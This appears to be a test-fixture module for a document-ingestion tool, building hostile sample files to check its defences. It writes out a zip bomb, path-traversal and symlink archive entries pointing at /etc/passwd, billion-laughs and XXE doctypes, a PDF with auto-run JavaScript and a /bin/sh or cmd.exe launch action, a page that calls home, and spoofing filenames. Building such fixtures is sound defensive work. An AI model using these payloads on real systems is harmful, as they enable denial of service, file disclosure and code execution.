/** Files that mean harm, made here: each is small, and would be large, lead elsewhere or run something if it were let. */
import { crc32, deflateRawSync } from 'node:zlib';
import { storedZip } from '../../src/ingest/archive/zip.ts';
import { docxParts, paragraph } from '../../src/ingest/samples/make-docx.ts';
import { makeMail } from '../../src/ingest/samples/make-mail.ts';

export const utf8 = (text: string): Uint8Array => Buffer.from(text);

export interface ZipMember {
  readonly name: string;
  readonly data: Uint8Array;
  /** As Unix has it: 0o120777 is a link. */
  readonly mode?: number;
}

function header(central: boolean, { name, data, mode = 0o100644 }: ZipMember, packed: Uint8Array, at: number): Buffer {
  const shift = central ? 2 : 0;
  const bytes = Buffer.alloc(central ? 46 : 30);
  bytes.writeUInt32LE(central ? 0x02014b50 : 0x04034b50, 0);
  if (central) bytes.writeUInt16LE(0x0314, 4);
  bytes.writeUInt16LE(20, 4 + shift);
  bytes.writeUInt16LE(8, 8 + shift);
  bytes.writeUInt32LE(crc32(data), 14 + shift);
  bytes.writeUInt32LE(packed.length, 18 + shift);
  bytes.writeUInt32LE(data.length, 22 + shift);
  bytes.writeUInt16LE(Buffer.byteLength(name), 26 + shift);
  if (central) bytes.writeUInt32LE((mode << 16) >>> 0, 38);
  if (central) bytes.writeUInt32LE(at, 42);
  return Buffer.concat([bytes, Buffer.from(name)]);
}

/** A packed archive, with whatever names and kinds of file are asked for. */
export function packedZip(members: readonly ZipMember[]): Uint8Array {
  const [body, directory]: [Buffer[], Buffer[]] = [[], []];
  let at = 0;
  for (const member of members) {
    const packed = deflateRawSync(member.data);
    const local = header(false, member, packed, 0);
    directory.push(header(true, member, packed, at));
    body.push(local, packed);
    at += local.length + packed.length;
  }
  const list = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(members.length, 8);
  end.writeUInt16LE(members.length, 10);
  end.writeUInt32LE(list.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...body, list, end]);
}

/** Half a megabyte that unpacks to half a gigabyte. */
export const zipBomb = (): Uint8Array =>
  packedZip([
    { name: 'mill.txt', data: utf8('The mill burned.') },
    { name: 'bomb.txt', data: Buffer.alloc(500_000_000, 'mill ') },
  ]);

/** An archive in an archive, and so on. */
export function nest(depth: number): Uint8Array {
  let bytes = packedZip([{ name: 'mill.txt', data: utf8('The mill burned.') }]);
  for (let n = 0; n < depth; n++) bytes = packedZip([{ name: `${n}.zip`, data: bytes }]);
  return bytes;
}

export const linksAndWaysOut = (): Uint8Array =>
  packedZip([
    { name: 'mill.txt', data: utf8('The mill burned.') },
    { name: '../../../etc/mill.txt', data: utf8('The mill burned.') },
    { name: '..\\..\\mill.txt', data: utf8('The mill burned.') },
    { name: '/etc/mill.txt', data: utf8('The mill burned.') },
    { name: 'C:\\mill.txt', data: utf8('The mill burned.') },
    { name: 'passwords.txt', data: utf8('/etc/passwd'), mode: 0o120777 },
    { name: 'disk', data: utf8('8,0'), mode: 0o060666 },
  ]);

/** Ten entities, each ten times the one before: written out, a hundred gigabytes. */
const LAUGHS = Array.from({ length: 11 }, (_, n) =>
  n === 0 ? '<!ENTITY e0 "burned ">' : `<!ENTITY e${n} "${`&e${n - 1};`.repeat(10)}">`,
).join('');
export const laughing = (root: string): string => `<!DOCTYPE ${root} [${LAUGHS}]>`;
/** An entity that is a file of this machine, and one that is an address. */
export const outside = (root: string, url: string): string =>
  `<!DOCTYPE ${root} [<!ENTITY e10 SYSTEM "file:///etc/passwd"><!ENTITY % all SYSTEM "${url}/all.dtd">%all;]>`;

export const rss = (doctype: string): Uint8Array =>
  utf8(
    `<?xml version="1.0"?>${doctype}<rss version="2.0"><channel><title>Mill</title><item><title>One</title><guid>1</guid><description>The mill &e10; burned.</description></item></channel></rss>`,
  );
export const xhtml = (doctype: string): Uint8Array =>
  utf8(
    `<?xml version="1.0"?>${doctype}<html xmlns="http://www.w3.org/1999/xhtml"><body><p>The mill &e10; burned.</p></body></html>`,
  );

export function docxWith(doctype: string): Uint8Array {
  const parts = docxParts(paragraph('The mill ENTITY burned.'));
  const xml = Buffer.from(parts.get('word/document.xml') ?? '').toString('utf8');
  const changed = xml.replace(/^(<\?xml[^>]*\?>)?/, `$1${doctype}`).replace('ENTITY', '&e10;');
  return storedZip(new Map([...parts, ['word/document.xml', utf8(changed)]]));
}

function pdfOf(objects: readonly string[]): Uint8Array {
  let file = '%PDF-1.7\n';
  const places = objects.map((object, i) => {
    const at = file.length;
    file += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  const size = places.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}`;
  const end = `trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF\n`;
  return Buffer.from(file + table + end, 'latin1');
}

/** Everything that a PDF can ask a program to do when it is opened. */
export function activePdf(url: string): Uint8Array {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 7 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 5 0 R /Resources << /Font << /F1 4 0 R >> >> /AA << /O 8 0 R >> /Annots [9 0 R] >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Length 51 >>\nstream\nBT /F1 12 Tf 60 700 Td (The mill burned.) Tj ET     \nendstream',
    `<< /S /JavaScript /JS (app.launchURL\\("${url}/js"\\); while\\(true\\){}) >>`,
    '<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>',
    `<< /S /URI /URI (${url}/uri) >>`,
    `<< /Type /Annot /Subtype /Widget /Rect [0 0 600 800] /A << /S /SubmitForm /F (${url}/form) >> >>`,
  ];
  return pdfOf(objects);
}

/** A page that calls home in every way that a page can. */
export const callingPage = (url: string): Uint8Array =>
  utf8(`<!doctype html><html manifest="${url}/m"><head><base href="${url}/"><link rel="stylesheet" href="${url}/s.css">
<link rel="preload" as="image" href="${url}/p.png"><meta http-equiv="refresh" content="0;url=${url}/r"><script src="${url}/x.js"></script>
<style>@import url(${url}/i.css);p{background:url(${url}/b.png)}</style></head><body onload="fetch('${url}/f')"><article><p>The mill burned.</p>
<img src="${url}/1.png" srcset="${url}/2.png 2x"><iframe src="${url}/frame"></iframe><video src="${url}/v" poster="${url}/vp"></video>
<object data="${url}/o"></object><embed src="${url}/e"><svg><image href="${url}/svg.png"/></svg><form action="${url}/form"></form></article></body></html>`);

/** Letters drawn as shapes under names that no table knows: what is copied from such a page is nonsense. */
export function shapesForLetters(): Uint8Array {
  const words = 'The mill of the old garrison burned down on Monday';
  const names = Array.from({ length: 95 }, (_, i) => `/x${i}`).join(' ');
  const stream = `BT /F1 14 Tf 40 700 Td (${words}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 5 0 R /Resources << /Font << /F1 4 0 R >> >> >>',
    `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 10 10] /FontMatrix [0.1 0 0 0.1 0 0] /FirstChar 32 /LastChar 126 /Widths [${'6 '.repeat(95)}]
 /Encoding << /Type /Encoding /Differences [32 ${names}] >> /CharProcs << ${Array.from({ length: 95 }, (_, i) => `/x${i} 6 0 R`).join(' ')} >> /Resources << >> >>`,
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Length 23 >>\nstream\n6 0 0 0 5 5 d1 0 0 5 5 re f\nendstream',
  ];
  return pdfOf(objects);
}

export const tenThousandAttachments = (): Uint8Array =>
  makeMail({
    text: 'The mill burned.',
    attachments: Array.from({ length: 10_000 }, (_, n) => ({
      name: `${n}.txt`,
      type: 'text/plain',
      bytes: utf8(`House ${n} burned.`),
    })),
  });

/** A name that reads "report.pdf" backwards from its middle, and one that commands the terminal. */
export const TURNED = 'report\u202efdp.txt';
export const COMMANDING = 'a\u001b]0;owned\u0007\u001b[2J.txt';
